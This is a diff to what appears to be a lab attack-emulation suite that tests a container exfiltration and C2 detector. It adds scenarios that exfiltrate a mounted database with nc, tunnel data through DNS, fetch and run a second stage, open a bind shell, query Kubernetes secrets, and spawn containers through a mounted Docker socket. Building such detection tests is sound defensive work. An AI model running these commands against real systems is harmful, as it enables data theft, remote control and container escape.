@@ -40,7 +40,10 @@ TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH, WEB, C2, CI, CI_JOB, DEPLOYER]
 # no openssl, no curl) learned while benign; attacks run inside it by
 # `docker exec`, as an intruder with a shell in it would.
 WEBAPP = IMG + "webapp:latest"
-BARE_TAGS = [WEBAPP]
+# The intruder's own image (no openssl either), started through the web
+# application's Docker socket: workers, an ephemeral C2 server, a sibling.
+WORKER = IMG + "worker:latest"
+BARE_TAGS = [WEBAPP, WORKER]
 # the address the lab configures as the Kubernetes API server
 # ([rules.SL-C2-008] api_servers); nothing listens there
 K8S_API = (SINK_IP, 6443)
@@ -150,6 +153,32 @@ for my $i (1 .. $n) {
 """
 
 
+# The Docker Engine API over the mounted socket, as `curl --unix-socket`
+# would do it (the web application has no docker CLI and no curl): create a
+# container (labelled for the lab's cleanup), start it, and with "wait"
+# block until it exits. HTTP/1.0: no chunked replies to parse.
+DOCKER_PL = r"""
+use IO::Socket::UNIX;
+my ($name, $image, $net, $label, $script, $wait) = @ARGV;
+sub js { my $x = shift; $x =~ s/(["\\])/\\$1/g; $x =~ s/\n/\\n/g; return "\"$x\""; }
+sub api {
+  my ($method, $path, $body) = @_; $body //= "";
+  my $s = IO::Socket::UNIX->new(Peer => "/var/run/docker.sock") or die "docker.sock: $!";
+  print $s "$method $path HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
+    . "Content-Length: " . length($body) . "\r\n\r\n" . $body;
+  local $/; my $r = <$s>; close $s;
+  $r =~ m{^HTTP/\S+ (\d+)} && $1 < 300 or die "$method $path: $r";
+  return $r;
+}
+my ($lk, $lv) = split /=/, $label, 2;
+api("POST", "/containers/create?name=$name", "{\"Image\":" . js($image) . ",\"Cmd\":[\"sh\",\"-c\","
+  . js($script) . "],\"Labels\":{" . js($lk) . ":" . js($lv) . "},\"HostConfig\":{\"NetworkMode\":"
+  . js($net) . "}}");
+api("POST", "/containers/$name/start");
+api("POST", "/containers/$name/wait") if $wait;
+"""
+
+
 def put(path: str, text: str) -> str:
     """Shell that writes `text` to `path` (no quoting to get wrong)."""
     return f"echo {base64.b64encode(text.encode()).decode()} | base64 -d > {path}"
@@ -196,13 +225,35 @@ class Ctx:
 
     def webapp(self) -> str:
         """The long-lived web application (started once, kept from the
-        learn phase into the detect phase)."""
+        learn phase into the detect phase). Its data volume (a customer
+        database) is at /mnt/data; the Docker socket is mounted too, a
+        common misconfiguration: the application never uses it."""
         cid = self.lab.kept.get(WEBAPP)
         if cid is None:
+            data = self.workdir / "appdata"
+            data.mkdir(exist_ok=True)
+            (data / "customers.db").write_bytes(os.urandom(600_000))
             script = f"mkdir -p /app; {put('/app/chat.pl', CHAT_PL)}; while true; do {WEBAPP_JOB}; sleep 1; done"
-            cid, _ip = self.lab.start(WEBAPP, script, keep=True)
+            volumes = (f"{data}:/mnt/data", f"{self.lab.docker.sock}:/var/run/docker.sock")
+            cid, ip = self.lab.start(WEBAPP, script, keep=True, volumes=volumes)
             self.lab.kept[WEBAPP] = cid
+            self.lab.kept_ips[cid] = ip or ""
         return cid
+
+    def webapp_ip(self) -> str:
+        return self.lab.kept_ips[self.webapp()]
+
+    def spawn(self, name: str, image: str, script: str, network: str = "none", wait: bool = True) -> str:
+        """Shell for the intruder in the web application: start a container
+        through its Docker socket (DOCKER_PL); network "self" joins the web
+        application's network namespace. The new container belongs to the
+        scenario (adopt() it after the exec)."""
+        net = "container:$(hostname)" if network == "self" else network
+        b64 = base64.b64encode(script.encode()).decode()
+        return (
+            f"{put('/tmp/.dk.pl', DOCKER_PL)}; perl /tmp/.dk.pl {name} {image} {net} {LABEL}={self.lab.run_id} "
+            f'"$(echo {b64} | base64 -d)"' + (" wait" if wait else "")
+        )
 
     def exec(self, script: str, timeout: float = 120) -> None:
         """Run `script` inside the running web application (docker exec)."""
@@ -262,6 +313,7 @@ class Scenario:
     run: Callable[[Ctx], None]
     blind_spot: bool = False  # undetected is the documented expectation
     compromised: bool = False  # runs by docker exec inside the learned web application
+    twin: str = ""  # compromised mode: the container-mode attack with the same goal
 
     @property
     def benign(self) -> bool:
@@ -351,8 +403,8 @@ def _multistage(ctx: Ctx) -> None:
 
 
 STAGE2 = (
-    f"#!/bin/sh\n# stage two: beacon to a second host\n"
-    f'i=0; while [ $i -lt 8 ]; do echo "hb $i $(hostname)" | nc {SECOND_IP} 4444; i=$((i+1)); sleep 1; done\n'
+    f"#!/bin/sh\n# stage two: beacon to a second host (port: first argument, else 4444)\n"
+    f'i=0; while [ $i -lt 8 ]; do echo "hb $i $(hostname)" | nc {SECOND_IP} ${{1:-4444}}; i=$((i+1)); sleep 1; done\n'
 ).encode()
 
 
@@ -504,6 +556,117 @@ def _cw_dns(ctx: Ctx) -> None:
     ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")
 
 
+# --- compromised twins of the container-mode attacks ------------------------------
+# The same goal as each container-mode attack, reached from a shell in the
+# web application with what it has (busybox, perl, its data volume, the
+# Docker socket it was started with). Destinations differ from the other
+# cw-* scenarios where the same rule must fire: alerts are suppressed per
+# (rule, workload, destination), and all of these are one workload.
+
+
+def _cw_seed(ctx: Ctx) -> None:
+    # no TLS tool: the ciphertext goes raw to port 443, which egress
+    # firewalls let through
+    ctx.exec(f"nc {SINK_IP} 443 < /mnt/data/customers.db")
+
+
+def _cw_raw(ctx: Ctx) -> None:
+    ctx.exec(f"head -c 800000 /dev/urandom | nc {SINK_IP} 9000")
+
+
+def _cw_http(ctx: Ctx) -> None:
+    ctx.exec("head -c 70000 /dev/urandom > /tmp/.p; " + http_post(SINK_IP, 80, "/tmp/.p", "/submit"))
+
+
+def _cw_dns_tunnel(ctx: Ctx) -> None:
+    ctx.exec(
+        "head -c 1200 /dev/urandom | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
+        f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done"
+    )
+
+
+def image_post(host: str, port: int, nbytes: int) -> str:
+    """The web application's own upload shape (a base64 image in JSON),
+    carrying `nbytes` of ciphertext."""
+    return (
+        f"""{{ printf '{{"image":"'; head -c {nbytes} /dev/urandom | base64 | tr -d '\\n'; printf '"}}'; }} """
+        "> /tmp/.i.json; " + http_post(host, port, "/tmp/.i.json", "/api/images")
+    )
+
+
+def _cw_spike(ctx: Ctx) -> None:
+    # its learned destination, its usual request: only the volume is unusual
+    ctx.exec(image_post(SINK_IP, 8080, 2_300_000))
+
+
+def _cw_new_dest(ctx: Ctx) -> None:
+    ctx.exec(image_post(SECOND_IP, 8080, 900_000))
+
+
+def _cw_slow(ctx: Ctx) -> None:
+    ctx.exec(
+        f"(i=0; while [ $i -lt 12 ]; do head -c 1000 /dev/urandom; i=$((i+1)); sleep 1; done) | nc {SECOND_IP} 9004"
+    )
+
+
+def _cw_multistage(ctx: Ctx) -> None:
+    # the stage two beacons to port 9003 (cw-pipe-stage-two: 4444)
+    ctx.exec(
+        f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && /tmp/.cache-update 9003"
+    )
+
+
+def _cw_pivot(ctx: Ctx) -> None:
+    _db, ip = ctx.start(DB, "nc -ll -p 7000 -e sh -c 'cat > /dev/null'")
+    ctx.exec(
+        f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
+        "[ $i -ge 50 ] && exit 1; usleep 200000; done"
+    )
+
+
+def _cw_burst(ctx: Ctx) -> None:
+    names = [f"sluice-emu-w-{uuid.uuid4().hex[:8]}" for _ in range(7)]
+    script = "; ".join(ctx.spawn(n, WORKER, "true") for n in names[:6])
+    script += "; " + ctx.spawn(names[6], WORKER, f"head -c 100000 /dev/urandom | nc {SECOND_IP} 9005", network="self")
+    try:
+        ctx.exec(script)
+    finally:
+        adopt(ctx, *names)
+
+
+def _cw_c2_server(ctx: Ctx) -> None:
+    name = f"sluice-emu-c2-{uuid.uuid4().hex[:8]}"
+    try:
+        ctx.exec(ctx.spawn(name, WORKER, "nc -l -p 8443 -e sh -c 'cat > /dev/null'; sleep 1", "self", wait=False))
+        adopt(ctx, name)
+        from_sink(ctx, ctx.webapp_ip(), 8443, b"beacon checkin\n")
+        ctx.lab.wait(name, timeout=30)
+    finally:
+        adopt(ctx, name)
+
+
+def _cw_bind_shell(ctx: Ctx) -> None:
+    ctx.exec("true")  # the web application belongs to the scenario
+    ctx.lab.docker("exec", "-d", ctx.webapp(), "nc", "-l", "-p", "4445", "-e", "sh")
+    from_sink(ctx, ctx.webapp_ip(), 4445, b"id; exit\n")
+
+
+def _cw_docker_sibling(ctx: Ctx) -> None:
+    name = f"sluice-emu-sib-{uuid.uuid4().hex[:8]}"
+    try:
+        ctx.exec(ctx.spawn(name, WORKER, f"head -c 600000 /dev/urandom | nc {SINK_IP} 9002", network="self"))
+    finally:
+        adopt(ctx, name)
+
+
+def _cw_k8s_api(ctx: Ctx) -> None:
+    ctx.exec(
+        "printf 'GET /api/v1/namespaces/default/secrets HTTP/1.1\\r\\nHost: kubernetes.default.svc\\r\\n"
+        "Authorization: Bearer x\\r\\n\\r\\n' | "
+        f"nc -w 1 {K8S_API[0]} {K8S_API[1]}; true"
+    )
+
+
 COMPROMISED: tuple[Scenario, ...] = tuple(
     Scenario(name, attack, expect, description, fn, compromised=True)
     for name, attack, expect, description, fn in (
@@ -551,6 +714,142 @@ COMPROMISED: tuple[Scenario, ...] = tuple(
             ("SL-EXF-003",),
             "hex-encoded ciphertext in DNS query names, sent to port 5353 (perl)",
             _cw_dns,
+        ),
+    )
+)
+
+# One twin per container-mode attack: (name, twin of, ATT&CK, must raise, what, run, blind spot).
+# The socket twins run after cw-docker-socket-sibling, which must raise SL-C2-007/009 first.
+TWINS: tuple[Scenario, ...] = tuple(
+    Scenario(name, attack, expect, description, fn, blind_spot=blind, compromised=True, twin=twin)
+    for name, twin, attack, expect, description, fn, blind in (
+        (
+            "cw-seed-mounted-data",
+            "seed-openssl-https",
+            "T1048.001",
+            ("SL-EXF-002", "SL-EXF-004"),
+            "the web app's mounted customer database, brought encrypted, streamed raw to port 443 (no TLS tool)",
+            _cw_seed,
+            False,
+        ),
+        (
+            "cw-raw-tcp",
+            "encrypted-raw-tcp",
+            "T1048.001",
+            ("SL-EXF-002",),
+            "800 KB of ciphertext over raw TCP to port 9000 of a host the web app knows on other ports",
+            _cw_raw,
+            False,
+        ),
+        (
+            "cw-http-post",
+            "encrypted-http-post",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "70 KB of ciphertext as the body of a plain-HTTP POST to port 80",
+            _cw_http,
+            False,
+        ),
+        (
+            "cw-dns-tunnel",
+            "dns-tunnel",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "1.2 KB of ciphertext hex-encoded into DNS query names (busybox nslookup, port 53)",
+            _cw_dns_tunnel,
+            False,
+        ),
+        (
+            "cw-volume-spike",
+            "encrypted-volume-spike",
+            "T1048.001",
+            ("SL-EXF-001",),
+            "3 MB of ciphertext as a base64 image upload to the web app's learned endpoint: only the volume is unusual",
+            _cw_spike,
+            False,
+        ),
+        (
+            "cw-new-destination",
+            "encrypted-new-destination",
+            "T1048.001",
+            ("SL-EXF-004",),
+            "1.2 MB of ciphertext in the web app's own upload shape (base64 image JSON) to a host it never used",
+            _cw_new_dest,
+            False,
+        ),
+        (
+            "cw-slow-exfil",
+            "slow-exfil",
+            "T1048.001",
+            (),
+            "12 KB of ciphertext trickled over one connection in 12 s: the blind spot, from inside",
+            _cw_slow,
+            True,
+        ),
+        (
+            "cw-multi-stage-c2",
+            "multi-stage-c2",
+            "T1104",
+            ("SL-C2-001", "SL-C2-002"),
+            "wget a second stage into /tmp, run it; it beacons to a second host",
+            _cw_multistage,
+            False,
+        ),
+        (
+            "cw-inter-container-pivot",
+            "inter-container-pivot",
+            "T1104",
+            ("SL-C2-003",),
+            "the web app connects to an internal db container it never talked to and sends 200 KB",
+            _cw_pivot,
+            False,
+        ),
+        (
+            "cw-docker-socket-sibling",
+            "docker-socket-sibling",
+            "T1610",
+            ("SL-C2-007", "SL-C2-009"),
+            "through the web app's mounted Docker socket (perl, no CLI): a sibling in its network namespace "
+            "that exfiltrates 600 KB",
+            _cw_docker_sibling,
+            False,
+        ),
+        (
+            "cw-lifecycle-burst",
+            "lifecycle-burst",
+            "T1104",
+            ("SL-C2-004",),
+            "through the Docker socket: 7 short worker containers, one sends to a new host",
+            _cw_burst,
+            False,
+        ),
+        (
+            "cw-c2-server-ephemeral",
+            "c2-server-ephemeral",
+            "T1104",
+            ("SL-C2-005", "SL-C2-006"),
+            "through the Docker socket: an ephemeral C2 server in the web app's network namespace on 8443; "
+            "the sink connects",
+            _cw_c2_server,
+            False,
+        ),
+        (
+            "cw-bind-shell",
+            "bind-shell-in-workload",
+            "T1104",
+            ("SL-C2-005", "SL-C2-006"),
+            "a bind shell on 4445 in the web app (nc -l -e sh); the sink uses it",
+            _cw_bind_shell,
+            False,
+        ),
+        (
+            "cw-kubernetes-api",
+            "kubernetes-api-from-container",
+            "T1609",
+            ("SL-C2-008",),
+            "the intruder asks the API server address for secrets with a bearer token",
+            _cw_k8s_api,
+            False,
         ),
     )
 )
@@ -666,6 +965,7 @@ SCENARIOS: tuple[Scenario, ...] = (
     Scenario("benign-web-service", "benign", (), "the learned web service takes its usual outside clients", _b_web),
     Scenario("benign-ci-runner", "benign", (), "the learned CI runner starts its job containers via the socket", _b_ci),
     *COMPROMISED,
+    *TWINS,
 )
 
 BY_NAME = {s.name: s for s in SCENARIOS}
